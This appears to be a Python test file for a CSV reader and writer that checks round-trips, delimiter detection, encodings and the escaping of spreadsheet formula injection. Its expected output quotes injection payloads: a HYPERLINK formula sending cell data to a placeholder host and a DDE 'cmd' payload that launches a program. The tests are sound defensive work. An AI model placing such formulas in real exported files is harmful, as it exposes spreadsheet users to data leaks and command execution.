import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.material import shared
from workbench.delimited_text import harmless, read_delimited, write_delimited

PLAIN = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Cf", "Cn", "Zl", "Zp"))
)


def rows(data):
    return [[cell.text for cell in line.cells] for line in read_delimited(data).sheets[0].lines]


@example([(";", ";")])
@example([("sep=;", "a")])
@example([("a|b;c", "\td,e")])
@given(
    st.lists(st.tuples(PLAIN.filter(str.strip), PLAIN.filter(str.strip)), min_size=1, max_size=9)
)
def test_what_is_written_is_read_back(table):
    assert rows(write_delimited(table)) == [list(row) for row in table]


def test_every_formula_of_the_hostile_file_leaves_as_text_and_numbers_stay():
    table = rows(shared("hostile/formula_injection.csv").read_bytes())

    exported = write_delimited(table).decode("utf-8-sig").splitlines()

    assert exported == [
        "id,vendor,answer",
        """R-01,"'=HYPERLINK(""http://example.invalid?x=""&A1,""click"")",yes""",
        "R-02,'+1+1,'-2+3",
        "R-03,'@SUM(1),\"'\t=1+1\"",
        """R-04,"'=cmd|' /C calc'!A0",-5""",
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "|", "＝", "＋", "－", "＠", " ="])
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start):
    assert harmless(f"{start}A1") == f"'{start}A1"


@pytest.mark.parametrize("mark", [",", ";", "\t", "|"])
def test_the_delimiter_is_found_even_when_a_quoted_cell_spans_lines(mark):
    text = f'code{mark}answer\nR-01{mark}"one, two;\nthree"\n'

    assert rows(text.encode()) == [["code", "answer"], ["R-01", "one, two;\nthree"]]


def test_lines_are_numbered_as_in_the_file():
    lines = read_delimited(b'a,b\n\n"x\ny",z\nlast,one\n').sheets[0].lines

    assert [line.number for line in lines] == [1, 3, 5]


def test_old_windows_persian_is_read_and_said_to_be_guessed():
    book = read_delimited("کد,پاسخ".encode("cp1256"))

    assert book.guessed_encoding == "cp1256"
    assert [cell.text for cell in book.sheets[0].lines[0].cells][1] == "پاسخ"
